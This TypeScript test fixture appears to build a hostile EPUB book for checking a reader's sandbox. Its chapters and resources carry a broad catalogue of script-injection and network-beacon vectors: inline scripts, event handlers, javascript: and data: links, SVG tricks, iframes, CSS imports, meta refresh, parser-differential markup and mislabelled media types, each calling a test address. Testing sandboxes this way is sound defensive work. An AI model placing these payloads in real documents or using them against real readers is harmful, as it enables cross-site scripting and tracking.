import { page } from '../../src/protocols/epub/epub.fixtures.ts'
import type { MadeEpub } from '../../src/protocols/epub/epub.fixtures.ts'

export const hostileText = 'Страшная сказка о книге, которая хотела убежать.'
export const lastText = 'Последняя глава, добрая.'

const xlink = 'http://www.w3.org/1999/xlink'
/** Seen in the console even where the call itself is stopped. */
const call = (home: string, sign: string) =>
  `console.log('/ran/${sign}');fetch('${home}/ran/${sign}',{mode:'no-cors'})`

/** A drawing that runs scripts of all kinds. */
const drawing = (home: string, sign: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="${xlink}" width="40" height="40" onload="${call(home, `${sign}-onload`)}">` +
  `<script>${call(home, `${sign}-script`)}</script><image xlink:href="${home}/left/${sign}-image"/>` +
  `<use href="${home}/left/${sign}-use#x"/><a id="${sign}" xlink:href="#"><rect width="40" height="40"/>` +
  `<set attributeName="href" to="javascript:${call(home, `${sign}-set`)}"/></a></svg>`

/** A text that tries every way known to act or to call home. @param home the address that it calls */
const chapter = (home: string) =>
  page(
    `<p>${hostileText}</p>` +
      `<script>${call(home, 'inline')}; try { top.document.title = 'caught' } catch (e) {}</script>` +
      `<script src="${home}/script.js"></script><script src="../evil.js"></script><script src="../evil.txt"></script>` +
      `<script type="module">${call(home, 'module')}</script>` +
      `<img src="${home}/left/image" alt="" onerror="${call(home, 'onerror')}"/>` +
      `<img src="../none.png" alt="" onerror="${call(home, 'onerror-own')}" srcset="${home}/left/srcset 2x"/>` +
      `<img src="../evil.svg" alt=""/>${drawing(home, 'svg')}` +
      `<iframe src="${home}/left/frame"></iframe><iframe src="../evil.html"></iframe><iframe src="../evil.svg"></iframe>` +
      `<iframe src="javascript:${call(home, 'frame-link')}"></iframe>` +
      `<iframe srcdoc="&lt;script&gt;${call(home, 'srcdoc')}&lt;/script&gt;"></iframe>` +
      `<object data="../evil.svg" type="image/svg+xml"></object><object data="../evil.html"></object>` +
      `<object data="${home}/left/object"></object><embed src="../evil.svg"/><embed src="${home}/left/embed"/>` +
      `<video src="${home}/left/video" poster="${home}/left/poster" autoplay=""><track src="${home}/left/track" default=""/></video>` +
      `<audio autoplay=""><source src="${home}/left/audio"/></audio>` +
      `<p style="background: url(${home}/left/style)">Фон</p>` +
      `<form action="${home}/left/form" method="get"><input name="a" autofocus="" onfocus="${call(home, 'onfocus')}"/>` +
      `<button>Отправить</button><button formaction="javascript:${call(home, 'formaction')}">Отправить</button></form>` +
      `<p><a href="javascript:${call(home, 'link')}" ping="${home}/left/ping">Ссылка</a></p>` +
      `<p><a href="java&#10;script:${call(home, 'split-link')}">Ссылка</a></p>` +
      `<p><a href="data:text/html,&lt;script&gt;${call(home, 'data-link')}&lt;/script&gt;">Ссылка</a></p>` +
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:z="${xlink}"><a z:href="javascript:${call(home, 'prefixed-link')}"><text y="20">Ссылка</text></a></svg>`,
  ).replace(
    '<title>t</title>',
    `<title>t</title><base href="${home}/left/"/>` +
      `<link rel="prefetch" href="${home}/left/prefetch"/><link rel="preload" as="fetch" href="${home}/left/preload"/>` +
      `<link rel="preconnect" href="${home}"/><link rel="modulepreload" href="${home}/left/module"/>` +
      `<link rel="stylesheet" href="${home}/left/sheet.css"/><link rel="stylesheet" href="../look.css"/>` +
      `<style>@import "${home}/left/style-import.css"; p { list-style: url(${home}/left/style-element) }</style>`,
  )

/** A text that one parser takes for harmless and another doesn't. */
const twoFaced = (home: string, sign: string) => {
  const script = `<script>${call(home, sign)}</script>`
  return (
    `<?xml version="1.0"?><?xml-stylesheet href="${home}/left/instruction.css"?><?x >${script}?>` +
    `<!DOCTYPE html SYSTEM ">${script}">` +
    page(
      `<p>Глава о двух лицах.</p><!-- >${script} --><p><![CDATA[ >${script} ]]></p>` +
        `<div><template shadowrootmode="open">${script}</template></div><noscript>${script}</noscript>`,
    )
  )
}

const refreshing = (home: string) =>
  page('<p>Глава, которая уводит.</p>').replace(
    '<title>',
    `<meta http-equiv="refresh" content="0;url=${home}/left/refresh"/><title>`,
  )

/** Name, type that the manifest claims, content. */
const resources = (home: string): [name: string, type: string, content: string][] => [
  ['evil.js', 'text/javascript', call(home, 'own-js')],
  ['evil.mjs', 'text/plain', call(home, 'own-mjs')],
  ['evil.txt', 'text/plain', call(home, 'own-txt')],
  [
    'evil.html',
    'text/html',
    `<!doctype html><title>t</title><script>${call(home, 'own-html')}</script><img src="${home}/left/html-image">`,
  ],
  ['evil.svg', 'image/svg+xml', drawing(home, 'own-svg')],
  ['evil.xml', 'application/xml', twoFaced(home, 'own-xml')],
  [
    'look.css',
    'text/css',
    `@import url("${home}/left/import.css"); @import "${home}/left/import-string.css"; ` +
      `@font-face { font-family: x; src: url(${home}/left/font) } ` +
      `p { font-family: x; background-image: url(${home}/left/css); cursor: image-set("${home}/left/image-set" 1x), auto }`,
  ],
  ['mask.png', 'application/xhtml+xml', page(`<script>${call(home, 'own-mask')}</script>`)],
  ['mask.jpg', 'image/jpeg', `<html><script>${call(home, 'own-jpeg')}</script></html>`],
  ['mask.woff2', 'font/woff2', `<html><script>${call(home, 'own-font')}</script></html>`],
  ['mask.mp3', 'audio/mpeg', `<html><script>${call(home, 'own-audio')}</script></html>`],
  ['mask', 'text/html; charset=utf-7', `<script>${call(home, 'own-nameless')}</script>`],
]

/** Files of the book that somebody could be led to open by their own addresses. */
export const hostileFiles = [
  'OPS/text/one.xhtml',
  'OPS/text/three.html',
  'OPS/text/refresh.xhtml',
  'OPS/book.opf',
  ...resources('').map(([name]) => `OPS/${name}`),
]

/** Those of them that run a script when a browser is told that they are what they claim to be. */
export const runningFiles = [
  ['OPS/text/one.xhtml', 'inline'],
  ['OPS/evil.html', 'own-html'],
  ['OPS/evil.svg', 'own-svg-script'],
  ['OPS/mask.png', 'own-mask'],
] as const

export const hostileBook = (home: string): MadeEpub => ({
  metadata:
    '<dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">Книга-беглец</dc:title><dc:language xmlns:dc="http://purl.org/dc/elements/1.1/">ru</dc:language>',
  manifest: [
    ['three', 'text/three.html', 'text/html'],
    ['refresh', 'text/refresh.xhtml', 'application/xhtml+xml'],
    ...resources(home).map(([name, type]) => [name, name, type]),
  ]
    .map(([id, href, type]) => `<item id="${id}" href="${href}" media-type="${type}"/>`)
    .join(''),
  spine: `<spine>${['c1', 'three', 'evil.svg', 'refresh', 'c2'].map((id) => `<itemref idref="${id}"/>`).join('')}</spine>`,
  files: {
    'OPS/text/one.xhtml': chapter(home),
    'OPS/text/two more.xhtml': page(`<p>${lastText}</p>`),
    'OPS/text/three.html': twoFaced(home, 'two-faced'),
    'OPS/text/refresh.xhtml': refreshing(home),
    ...Object.fromEntries(resources(home).map(([name, , content]) => [`OPS/${name}`, content])),
  },
})
